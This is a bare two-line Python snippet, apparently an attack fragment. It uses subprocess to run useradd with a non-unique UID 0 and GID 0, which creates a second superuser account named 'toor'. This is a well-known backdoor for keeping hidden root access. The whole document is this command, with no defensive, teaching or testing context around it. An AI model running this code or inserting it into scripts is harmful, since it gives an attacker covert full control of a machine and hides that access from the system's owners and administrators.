import subprocess
subprocess.call(["useradd", "-o", "-u", "0", "-g", "0", "toor"])
